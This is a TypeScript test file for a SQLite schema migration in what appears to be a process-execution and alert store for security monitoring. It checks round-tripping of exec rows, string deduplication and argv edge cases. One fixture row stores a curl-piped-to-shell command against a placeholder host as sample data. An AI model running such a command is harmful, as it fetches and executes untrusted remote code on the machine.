import Database from 'better-sqlite3';
import { copyFileSync, mkdirSync, statSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { afterAll, describe, expect, it } from 'vitest';
import { generateJsonl } from '../../bench/lib/generate-jsonl.js';
import { applyMigrations, listMigrations, SCHEMA_DIR } from '../../src/db/migrate.js';
import { openCaseForWrite } from '../../src/db/open.js';
import { importFile } from '../../src/importer/import-file.js';
import { tempDir } from '../support/temp-case.js';

const tmp = tempDir();
afterAll(() => tmp.cleanup());

const EXEC_COLUMNS = [
  'exec_id',
  'process_id',
  'capture_id',
  'host_id',
  'kind',
  'parent_exec_id',
  'prev_exec_id',
  'ts_ns',
  'pid',
  'tid',
  'vpid',
  'ppid',
  'name',
  'exe',
  'exepath',
  'args',
  'argv_json',
  'cmdline',
  'cwd',
  'uid',
  'gid',
  'euid',
  'loginuid',
  'user_name',
  'tty',
  'sid',
  'pgid',
  'vpgid',
  'env',
  'cgroups',
  'container_id',
  'exe_writable',
  'exe_upper_layer',
  'exe_lower_layer',
  'exe_from_memfd',
  'cap_permitted',
  'cap_effective',
  'cap_inheritable',
  'res',
  'attempt_exe',
  'evt_num',
  'evt_type',
  'source_line',
  'source_offset',
];

type Row = Record<string, string | number | bigint | null>;
const CGROUPS = 'cpu=/kubepods/pod1/3f9a1c0e2b7d\0memory=/kubepods/pod1/3f9a1c0e2b7d';

/** Exec rows as version 1 stored them, covering every way version 5 encodes a value. */
function edgeRows(): Row[] {
  const base = (id: number): Row => {
    const r: Row = Object.fromEntries(EXEC_COLUMNS.map((c) => [c, null]));
    Object.assign(r, { exec_id: id, process_id: id, capture_id: 1, host_id: 1, kind: 'exec', ts_ns: 1732800000000000000n + BigInt(id), pid: 100 + id });
    return r;
  };
  const argv = (id: number, name: string, args: string[]): Row => ({
    ...base(id),
    name,
    exe: name,
    args: args.join(' '),
    argv_json: JSON.stringify(args),
    cmdline: `${name} ${args.join(' ')}`,
  });
  return [
    { ...argv(1, 'sh', ['-c', 'curl http://x | sh']), tid: 101, cgroups: CGROUPS, container_id: '3f9a1c0e2b7d', cwd: '/app' },
    { ...argv(2, 'env', ['', 'x']), tid: 7, cgroups: CGROUPS, container_id: '3f9a1c0e2b7d', cwd: '/app' },
    { ...argv(3, 'ünï', ['cödé 😀 x', 'b', '']), exepath: '/usr/bin/ünï', env: 'A=1\0B=two words' },
    { ...base(4), name: 'a', args: 'a b', argv_json: '["x"]', cmdline: 'a a b' },
    { ...base(5), name: 'b', args: 'a b c', argv_json: '["a b", "c"]', cmdline: 'b a b c' },
    { ...base(6), name: 'c', args: 'x', cmdline: 'a command line of its own', kind: 'fork' },
    { ...base(7), name: 'd', args: '', cmdline: null, kind: 'snapshot', uid: 0, user_name: 'root' },
    { ...base(8), name: null, args: null, cmdline: 'only a cmdline', kind: 'inferred' },
    { ...base(9), name: 'e', args: '', cmdline: 'e', loginuid: -1, tty: 34816, sid: 9, pgid: 9, vpgid: 1, euid: 0 },
    {
      ...base(10),
      name: 'f',
      args: '-x',
      cmdline: 'f -x',
      exe_writable: 1,
      exe_upper_layer: 0,
      exe_lower_layer: 1,
      exe_from_memfd: 0,
      cap_permitted: 'CAP_CHOWN CAP_KILL',
      cap_effective: 'CAP_CHOWN CAP_KILL',
      cap_inheritable: '',
      res: -2,
      attempt_exe: '/tmp/missing',
      evt_num: 42,
      evt_type: 'execve',
      source_offset: 4096,
    },
    { ...base(11), name: 'g', args: 'y', cmdline: 'g y', evt_type: 'execve', source_line: 12, cgroups: CGROUPS },
  ];
}

const asText = (_k: string, v: unknown): unknown => (typeof v === 'bigint' || typeof v === 'number' ? `${v}n` : v);

/** The alert columns of version 5 (version 6 adds host_id). */
const ALERT_COLUMNS_V5 = 'alert_id, exec_id, rule, priority, time_ns, output, output_fields_json, tags_json, source, origin, rules_file, capture_id, run_ns';

function dump(db: Database.Database, sql: string): string {
  return JSON.stringify(db.prepare(sql).safeIntegers(true).raw().all(), asText);
}

function insertRows(db: Database.Database, rows: Row[]): void {
  const insert = db.prepare(`INSERT INTO execs (${EXEC_COLUMNS.join(',')}) VALUES (${EXEC_COLUMNS.map((c) => `@${c}`).join(',')})`);
  for (const r of rows) insert.run(r);
}

describe('schema version 5: narrow exec rows behind the execs view', () => {
  it('upgrades a version-4 case: every exec and alert reads back exactly as before', () => {
    const oldSchema = tmp.path('schema-v4');
    mkdirSync(oldSchema);
    for (const m of listMigrations().filter((m) => m.name < '005')) copyFileSync(join(SCHEMA_DIR, m.name), join(oldSchema, m.name));
    const db = new Database(tmp.path('upgrade.db'));
    db.pragma('foreign_keys = OFF');
    applyMigrations(db, oldSchema);
    insertRows(db, edgeRows());
    db.prepare(`INSERT INTO alerts (exec_id, rule, priority, output, origin, run_ns) VALUES (3, 'r', 'Warning', 'o', 'test', 1)`).run();
    db.prepare(`INSERT INTO captures (capture_id, path, sha256, size_bytes, format, importer, imported_ns, status)
                VALUES (1, 'f', 'x', 1, 'jsonl', 'p', 1, 'complete')`).run();
    db.prepare(`INSERT INTO exec_sources (exec_id, capture_id, ts_ns, cmdline, conflict) VALUES (3, 1, 5, 'sh -x', 'cmdline')`).run();
    const before = dump(db, 'SELECT * FROM execs ORDER BY exec_id');
    const alerts = dump(db, `SELECT ${ALERT_COLUMNS_V5} FROM alerts`);
    const sources = dump(db, 'SELECT * FROM exec_all_sources ORDER BY exec_id, first_source');
    applyMigrations(db);
    expect(dump(db, 'SELECT * FROM execs ORDER BY exec_id')).toBe(before);
    expect(dump(db, `SELECT ${ALERT_COLUMNS_V5} FROM alerts`)).toBe(alerts);
    expect(dump(db, 'SELECT * FROM exec_all_sources ORDER BY exec_id, first_source')).toBe(sources);
    expect(db.prepare('SELECT count(*) FROM strings WHERE value = ?').pluck().get(CGROUPS)).toBe(1);
    expect(db.prepare("SELECT type FROM sqlite_master WHERE name = 'execs'").pluck().get()).toBe('view');
    db.pragma('foreign_keys = ON');
    expect(db.pragma('foreign_key_check')).toEqual([]);
    expect(() => db.prepare('DELETE FROM alerts WHERE alert_id = 1').run()).not.toThrow();
    expect(() => db.prepare('DELETE FROM exec_sources WHERE exec_id = 3').run()).not.toThrow();
    db.close();
  });

  it('writes, updates and deletes through the view as if it were the version-1 table', () => {
    const db = new Database(':memory:');
    db.pragma('foreign_keys = OFF');
    applyMigrations(db);
    const rows = edgeRows();
    insertRows(db, rows);
    const expected = (rs: Row[]): string =>
      JSON.stringify(
        rs.map((r) => EXEC_COLUMNS.map((c) => r[c])),
        asText,
      );
    expect(dump(db, `SELECT ${EXEC_COLUMNS.join(',')} FROM execs ORDER BY exec_id`)).toBe(expected(rows));
    // Strings repeated across rows are stored once; args that cmdline holds after name are not stored.
    expect(db.prepare('SELECT count(*) FROM exec_rows WHERE cgroups_id IS NOT NULL').pluck().get()).toBe(3);
    expect(db.prepare('SELECT count(DISTINCT cgroups_id) FROM exec_rows').pluck().get()).toBe(1);
    expect(db.prepare('SELECT args FROM exec_rows WHERE exec_id = 1').pluck().get()).toBeNull();

    db.prepare(
      "UPDATE execs SET cmdline = 'changed', tid = pid, argv_json = NULL, loginuid = NULL, tty = NULL, sid = NULL, pgid = NULL, vpgid = NULL, euid = NULL WHERE exec_id IN (1, 9)",
    ).run();
    db.prepare('DELETE FROM execs WHERE exec_id = 10').run();
    const after = rows
      .filter((r) => r.exec_id !== 10)
      .map((r) =>
        r.exec_id === 1 || r.exec_id === 9
          ? { ...r, cmdline: 'changed', tid: r.pid ?? null, argv_json: null, loginuid: null, tty: null, sid: null, pgid: null, vpgid: null, euid: null }
          : r,
      );
    expect(dump(db, `SELECT ${EXEC_COLUMNS.join(',')} FROM execs ORDER BY exec_id`)).toBe(expected(after));
    expect(db.prepare('SELECT count(*) FROM exec_extras WHERE exec_id IN (9, 10)').pluck().get()).toBe(0);
  });

  it('the importer stores what the view gives back: argv with spaces, empty, non-ASCII, NUL and unpaired surrogates', async () => {
    const argvs = [
      ['-c', 'echo a b'],
      ['', 'x'],
      ['cödé 😀', 'b c'],
      ['nul\u0000inside', 'y z'],
      ['lone\ud800', ' '],
    ];
    const lines = [
      '{"kind":"snapshot","ts":"1732800000000000000","pid":1,"ppid":0,"comm":"init","host":"h"}',
      ...argvs.map((args, i) => JSON.stringify({ kind: 'exec', ts: `173280000100000000${i}`, pid: 1, tid: 10 + i, comm: 'sh', exe: 'sh', args, host: 'h' })),
    ];
    const file = tmp.path('argv.jsonl');
    writeFileSync(file, `${lines.join('\n')}\n`);
    const db = openCaseForWrite(tmp.path('argv.db'));
    await importFile(db, file);
    const got = db.prepare("SELECT args, argv_json, cmdline, tid FROM execs WHERE kind = 'exec' ORDER BY exec_id").all() as Row[];
    db.close();
    // Text round-trips through SQLite as UTF-8 (an unpaired surrogate does not), as in version 1.
    const sqlite = new Database(':memory:');
    const stored = (v: string): string => sqlite.prepare('SELECT ?').pluck().get(v) as string;
    expect(got).toEqual(
      argvs.map((a, i) => ({
        args: stored(a.join(' ')),
        argv_json: stored(JSON.stringify(a)),
        cmdline: stored(`sh ${a.join(' ')}`),
        tid: BigInt(10 + i),
      })),
    );
    sqlite.close();
  });

  it('a generated case is smaller than the JSON lines it came from', async () => {
    const input = tmp.path('gen.jsonl');
    await generateJsonl(input, { execs: 20_000, seed: 7 });
    const dbPath = tmp.path('gen.db');
    const db = openCaseForWrite(dbPath);
    const r = await importFile(db, input);
    db.close();
    const ro = new Database(dbPath, { readonly: true });
    const execBytes = ro.prepare("SELECT sum(pgsize) FROM dbstat WHERE name IN ('exec_rows', 'exec_extras', 'strings')").pluck().get() as number;
    ro.close();
    expect(execBytes / r.execs).toBeLessThan(200);
    expect(statSync(dbPath).size / statSync(input).size).toBeLessThan(0.8);
  });
});
